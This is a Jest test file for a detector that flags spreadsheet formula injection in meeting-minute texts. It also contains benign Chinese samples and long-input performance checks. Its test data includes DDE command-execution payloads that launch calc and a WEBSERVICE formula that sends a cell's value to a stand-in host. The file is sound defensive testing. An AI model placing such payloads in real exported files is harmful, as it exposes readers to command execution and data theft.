import { isDangerousFormula, looksLikeFormula } from './minutes-formula.decide';

describe('formulas in minutes', () => {
  test.each([
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '=1+1',
    '=HYPERLINK("http://x.example","点这里")',
    '+HYPERLINK("http://x.example","点这里")',
    '＝SUM(A1)',
    '=-A1',
    '+A1+B2',
    '-SUM(A1:A9)',
  ])('refuses a text that would run: %s', (text) => expect(looksLikeFormula(text)).toBe(true));

  test.each([
    '-3度太冷',
    '-3',
    '+86 13801234567',
    '+1',
    '@张三 请处理',
    '@后勤处（食堂）',
    '- 热水不热（8号楼）',
    '=====通知=====',
    '-WiFi(5G)信号差',
    '食堂=难吃',
    '--',
  ])('lets a normal text pass: %s', (text) => expect(looksLikeFormula(text)).toBe(false));

  test.each([
    'HYPERLINK("http://x.example")',
    'WEBSERVICE("http://x.example/"&A1)',
    "cmd|'/C calc'!A0",
    '[1]Sheet1!A1',
    "'C:\\[b.xlsx]S'!A1",
    'DDE("cmd","/C calc","x")',
  ])('distrusts the cached value of %s', (formula) => expect(isDangerousFormula(formula)).toBe(true));

  test.each(['ROW()-3', 'A1&B1', 'CONCATENATE(A1,"、",B1)', 'IF(A1="","",A1)', 'Table1[列]', 'A1||B1'])(
    'takes the cached value of %s',
    (formula) => expect(isDangerousFormula(formula)).toBe(false),
  );
});

test('texts without end are judged all the same', () => {
  const long = 300_000;
  expect(looksLikeFormula(`+${'a'.repeat(long)}`)).toBe(false);
  expect(looksLikeFormula(`+${'a'.repeat(long)}(1)`)).toBe(true);
  expect(looksLikeFormula(`=${' '.repeat(long)}灯`)).toBe(false);
  expect(isDangerousFormula('['.repeat(long))).toBe(false);
  expect(isDangerousFormula('[]'.repeat(long))).toBe(false);
  expect(isDangerousFormula(`${'[]'.repeat(long)}S!A1`)).toBe(true);
});
